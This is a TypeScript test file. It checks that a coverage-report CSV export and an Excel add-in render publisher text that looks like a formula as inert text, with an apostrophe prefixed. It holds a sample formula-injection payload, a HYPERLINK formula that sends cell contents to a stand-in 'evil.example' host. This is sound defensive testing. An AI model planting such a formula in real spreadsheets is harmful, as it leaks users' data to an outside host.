import { parse } from "csv-parse/sync";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bearer } from "../../support/auth";
import { launchChromium, openTaskPane } from "../../support/browser";
import { data } from "../../support/graphql";
import { useTestStack } from "../../support/servers";

/**
 * Text an operator typed (a source's publisher) reaches planners' spreadsheets: through the CSV export and
 * through the add-in. A cell starting with =, +, -, @, tab or CR is a formula to Excel; it must arrive as text.
 */
const HOSTILE = `=HYPERLINK("http://evil.example/?x="&A2,"click")`;
const AS_OF = "2025-08-15";
const FORMULA_START = /^[=+\-@\t\r]/;

const stack = useTestStack({ ownParticipantsDatabase: "formula" });
beforeAll(async () => {
  const reports = [
    { regencyCode: "16.06", publisher: HOSTILE },
    { regencyCode: "16.10", publisher: "+62 811 (ponsel)" },
    { regencyCode: "16.01", publisher: "@SUM(A1:A9)" },
  ];
  for (const { regencyCode, publisher } of reports) {
    await data(
      stack.gateway.url,
      `mutation($input: CoverageReportInput!) { recordCoverageReport(input: $input) { id } }`,
      {
        input: {
          regencyCode,
          asOf: AS_OF,
          activeParticipants: 100_000,
          source: { publisher, title: "-1+1" },
        },
      },
      await bearer("operator", [regencyCode]),
    );
  }
});

describe("the CSV export", () => {
  it("prefixes every text cell that Excel would read as a formula with an apostrophe", async () => {
    const url = stack.gateway.url.replace(
      "/graphql",
      `/export/coverage.csv?regencies=16.06,16.10,16.01&asOf=${AS_OF}`,
    );
    const text = await (await fetch(url)).text();
    const rows: Record<string, string>[] = parse(text, { columns: true });
    // Each regency's sources cell starts with the hostile publisher (then the workforce estimate's source).
    expect(rows.map((row) => row.sources.split(";")[0])).toEqual([
      `'${HOSTILE}, -1+1`,
      "'+62 811 (ponsel), -1+1",
      "'@SUM(A1:A9), -1+1",
    ]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA_START);
  });

  it("leaves numbers as numbers, negative ones included", async () => {
    const url = stack.gateway.url.replace("/graphql", `/export/coverage.csv?regencies=16.06&asOf=${AS_OF}`);
    const [row]: Record<string, string>[] = parse(await (await fetch(url)).text(), { columns: true });
    expect(row.active_participants).toBe("100000");
  });
});

describe("the Excel add-in", () => {
  let browser: Browser;
  let page: Page;
  beforeAll(async () => {
    browser = await launchChromium();
    page = await openTaskPane(browser, stack.gateway.url);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  it("JSK.TABLE answers a source that looks like a formula as text", async () => {
    const table: unknown[][] = await page.evaluate(
      (asOf) => (window as any).__functions.TABLE("16", "code,source", asOf),
      AS_OF,
    );
    const source = (code: string) => table.find((row) => row[0] === code)![1] as string;
    expect(source("16.06").startsWith(`'${HOSTILE};`)).toBe(true);
    for (const row of table)
      for (const cell of row) if (typeof cell === "string") expect(cell).not.toMatch(FORMULA_START);
  });

  it("the task pane writes such a source into the sheet as text, never as a formula", async () => {
    await page.fill("#as-of", AS_OF);
    await page.click("#insert");
    await page.waitForFunction(() => (window as any).__sheet.tables.length === 1, null, { timeout: 20_000 });
    const cells: Record<string, unknown> = await page.evaluate(() => (window as any).__sheet.cells);
    const texts = Object.values(cells).filter((cell): cell is string => typeof cell === "string");
    expect(texts.some((text) => text.startsWith(`'${HOSTILE};`))).toBe(true);
    for (const text of texts) expect(text).not.toMatch(FORMULA_START);
  });
});
